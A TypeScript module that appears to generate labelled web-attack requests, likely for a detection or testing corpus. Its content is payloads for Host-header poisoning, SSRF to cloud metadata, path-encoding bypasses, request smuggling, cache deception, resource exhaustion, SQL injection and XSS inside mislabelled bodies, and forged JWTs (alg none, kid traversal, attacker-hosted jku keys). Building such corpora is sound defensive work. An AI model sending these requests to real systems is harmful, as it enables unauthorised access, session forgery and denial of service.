import type { Chance } from '../chance.ts';
import type { WholeWriter } from '../whole.ts';

const b64 = (value: object): string => Buffer.from(JSON.stringify(value)).toString('base64url');

/** Requests that bend HTTP itself: between proxies, caches, routers and what stands behind them. */
export function writeProtocol(write: WholeWriter, chance: Chance): void {
  const technique = (name: string): void => write.as({ class: 'protocol', technique: name });
  technique('another host than asked');
  for (const host of [
    'localhost',
    '127.0.0.1',
    'www.example.com@evil.example',
    'evil.example:80',
    'www.example.com:@evil.example',
    '169.254.169.254',
    'a"b.evil.example',
    'www.example.com evil.example',
    'x.oast.example',
    'evil.example#www.example.com',
    '[::1]:80',
    "x'or'1",
    '{{7*7}}.example.com',
    '..',
    'www.example.com/../../',
  ])
    write.get(chance.pick(['/', '/password/reset', '/admin']), { host });
  for (const name of [
    'x-forwarded-host',
    'x-host',
    'x-forwarded-server',
    'forwarded',
    'x-http-host-override',
    'x-original-host',
    'x-forwarded-scheme',
    'x-forwarded-port',
  ])
    for (const value of [
      'evil.example',
      'x.oast.example"><script>alert(1)</script>',
      'host=evil.example;for=127.0.0.1',
    ])
      write.get('/forgot?user=admin', { [name]: value });
  technique('another path than asked');
  for (const name of [
    'x-original-url',
    'x-rewrite-url',
    'x-override-url',
    'x-forwarded-path',
    'x-forwarded-prefix',
    'x-accel-redirect',
  ])
    for (const path of ['/admin', '/internal/users', '/actuator/env', '/../../etc/passwd'])
      write.get('/', { [name]: path });
  for (const path of [
    '/admin;/',
    '/;/admin',
    '/admin/..;/',
    '/%2e/admin',
    '/admin%20/',
    '/admin%09',
    '//admin//',
    '/./admin/./',
    '/ADMIN/%2e%2e/admin',
    '/admin..;/manager',
    '/public/..%2fadmin',
    '/admin%3f',
    '/admin%23x',
    '/api/v1/users/..;/..;/admin',
    '/%61dmin',
    '/%2561dmin',
    '/static/%2e%2e/admin',
    '/admin.json%0a',
    '/index.php/admin;x.css',
    '/login/..\\admin',
  ])
    write.get(path);
  technique('another method than sent');
  for (const method of [
    'TRACE',
    'TRACK',
    'DEBUG',
    'CONNECT',
    'PROPFIND',
    'ARBITRARY',
    'JEFF',
    'INDEX',
    'BPROPPATCH',
    'PRI',
  ])
    write.get(
      chance.pick(['/', '/admin', '/files/a.txt']),
      method === 'DEBUG' ? { command: 'stop-debug' } : {},
      method,
    );
  for (const name of ['x-http-method-override', 'x-http-method', 'x-method-override'])
    for (const method of ['TRACE', 'CONNECT', 'DEBUG'])
      write.send('/api/users/1', 'application/json', '{}', { headers: { [name]: method } });
  technique('believed to be inside');
  for (const name of [
    'x-forwarded-for',
    'x-real-ip',
    'x-client-ip',
    'x-originating-ip',
    'x-remote-addr',
    'true-client-ip',
    'cf-connecting-ip',
    'x-custom-ip-authorization',
    'x-cluster-client-ip',
  ])
    for (const value of ['127.0.0.1', 'localhost', '0x7f.1', '::1', '10.0.0.1, 127.0.0.1'].slice(0, 3))
      write.get('/admin/export', { [name]: value });
  for (const name of [
    'x-remote-user',
    'x-forwarded-user',
    'x-authenticated-user',
    'remote-user',
    'x-webauth-user',
    'x-ssl-client-s-dn',
    'x-amzn-oidc-identity',
  ])
    write.get('/', { [name]: 'admin' });
  technique('headers the next hop drops');
  for (const value of [
    'authorization',
    'x-forwarded-for',
    'cookie',
    'x-real-ip, x-forwarded-for',
    'te, authorization',
  ]) {
    write.get('/', { 'proxy-connection': `close, ${value}` });
    write.get('/account', { 'keep-alive': 'timeout=5', trailer: value });
  }
  technique('a second request in the first');
  for (const path of ['/admin', '/api/keys', '/account/delete', '/internal', '/404', '/users/1/role'])
    for (const head of ['0\r\n\r\n', '5\r\nAAAAA\r\n0\r\n\r\n', '\r\n', '1\r\nZ\r\n0\r\n\r\n'])
      write.send(
        '/',
        chance.pick(['application/x-www-form-urlencoded', 'text/plain']),
        `${head}${chance.pick(['GET', 'POST', 'DELETE'])} ${path} HTTP/1.1\r\nHost: localhost\r\nX-Ignore: ${chance.word(2)}`,
      );
  for (const name of [
    'transfer_encoding',
    'x-transfer-encoding',
    'content_length',
    'content-length-',
    'transfer-encoding-x',
  ])
    write.send('/', 'text/plain', '0\r\n\r\nGET /admin HTTP/1.1\r\nX: ', {
      headers: { [name]: name.includes('length') ? '4' : 'chunked' },
    });
  for (const value of ['h2c', 'h2c, HTTP2-Settings', 'websocket, h2c'])
    write.get('/', { upgrade: value, 'http2-settings': 'AAMAAABkAARAAAAAAAIAAAAA' });
  technique('ranges and lists that eat memory');
  for (const value of [
    `bytes=${Array.from({ length: 300 }, (_, at) => `${at}-`).join(',')}`,
    `bytes=0-,${'5-0,'.repeat(200)}5-1`,
    'bytes=0-18446744073709551615',
    'bytes=-0,-1,-2,-3,-4,-5,-6,-7,-8',
    `bytes=${Array.from({ length: 90 }, (_, at) => `0-${at}`).join(',')}`,
  ])
    for (const name of ['range', 'request-range']) write.get('/video.mp4', { [name]: value });
  for (const value of ['gzip;q=1.' + '0'.repeat(900), 'identity,'.repeat(300), '*;q=0,'.repeat(250)])
    write.get('/', { 'accept-encoding': value });
  write.get(`/?${'a=1&'.repeat(3000)}`);
  write.get(`/${'a/'.repeat(1800)}`);
  write.json('/api/items', `${'['.repeat(4000)}${']'.repeat(4000)}`);
  write.json('/api/items', `${'{"a":'.repeat(2500)}1${'}'.repeat(2500)}`);
  write.send('/api/items', 'application/x-www-form-urlencoded', `x${'[a]'.repeat(2000)}=1`);
  technique('caches fed or fooled');
  for (const path of [
    '/account/x.css',
    '/account%2fx.js',
    '/profile;x.ico',
    '/account%00.png',
    '/settings/..%2fstatic/a.js',
    '/me%3bx.css',
    '/account%0ax.css',
    '/api/me/%2e%2e/a.css',
  ])
    write.get(path, { cookie: 'session=1' });
  for (const headers of [
    { 'x-forwarded-scheme': 'nothttps' },
    { 'x-oversized': 'a'.repeat(9000) },
    { 'x-metachar': '\\x07\\n' },
    { 'x-timer': '1', pragma: 'x-get-cache-key, akamai-x-get-true-cache-key' },
    { 'x-forwarded-proto': 'javascript' },
    { 'x-amz-website-redirect-location': '//evil.example' },
  ])
    write.get(`/?cb=${chance.hex(6)}`, headers);
  technique('letters that decode twice or to nothing');
  for (const path of [
    '/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd',
    '/%f8%80%80%80%af',
    '/a%00b',
    '/%ff%fe',
    '/%u0061dmin',
    '/%%',
    '/%g1',
    '/x?y=%c0%bcscript%c0%be',
    '/x?y=%e0%80%bcb%e0%80%be',
    '/%ed%a0%80',
    '/?a=%uff1cscript%uff1e',
    '/?a=%c0%a7 or 1=1--'.replaceAll(' ', '%20'),
  ])
    write.get(path);
  technique('bodies that say they are another thing');
  const lies: readonly (readonly [string, string])[] = [
    ['application/x-www-form-urlencoded; charset=ibm037', '%95%81%94%85=%7d%40%96%99%40f1~f1'],
    ['application/json; charset=utf-7', '+AHs-+ACI-a+ACI-:1+AH0-'],
    ['multipart/form-data', '--x\r\n\r\na\r\n--x--'],
    [
      'multipart/form-data; boundary=a; boundary=b',
      '--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n<script>alert(1)</script>\r\n--b--\r\n',
    ],
    [
      'multipart/form-data; boundary=',
      '--\r\nContent-Disposition: form-data; name="id"\r\n\r\n1\' or 1=1--\r\n----\r\n',
    ],
    ['text/json,application/xml', '{"a":"<x>"}'],
    ['application/x-www-form-urlencoded; charset=cp037', '%89%84=%f1%7d%40%96%99'],
    ['multipart/mixed; boundary="x', '--x\r\n\r\n1\r\n--x--'],
    ['application/json; application/x-www-form-urlencoded', "id=1' union select 1,2--"],
    ['application/json;charset=shift_jis;charset=utf-8', '{"q":"x"}'],
    ["multipart/form-data; boundary=x'--", "--x'--\r\n\r\n"],
  ];
  for (const [type, body] of lies) write.send('/api/search', type, body);
  for (const coding of ['gzip, gzip, gzip', 'deflate, br, x', 'chunked', 'identity;gzip', 'compress, exi'])
    write.send('/api/search', 'application/json', '{"q":1}', { headers: { 'content-encoding': coding } });
  technique('tokens that prove nothing');
  const claims = { sub: 'admin', role: 'admin', exp: 4_000_000_000 };
  const heads = [
    { alg: 'none' },
    { alg: 'None', typ: 'JWT' },
    { alg: 'nOnE' },
    { alg: 'HS256', kid: '../../../../dev/null' },
    { alg: 'HS256', kid: "x' union select 'k'-- " },
    { alg: 'RS256', jku: 'https://evil.example/jwks.json' },
    { alg: 'RS256', x5u: 'http://198.51.100.9/c.pem' },
    { alg: 'HS256', kid: '|id' },
    { alg: '', typ: 'JWT' },
    { alg: 'RS256', jwk: { kty: 'RSA', e: 'AQAB', n: chance.word(40) } },
  ];
  for (const head of heads) {
    const token = `${b64(head)}.${b64(claims)}.${/none|^$/i.test(head.alg) ? '' : chance.word(43)}`;
    write.get('/api/me', { authorization: `Bearer ${token}` });
    write.get('/dashboard', { cookie: `jwt=${token}` });
  }
}
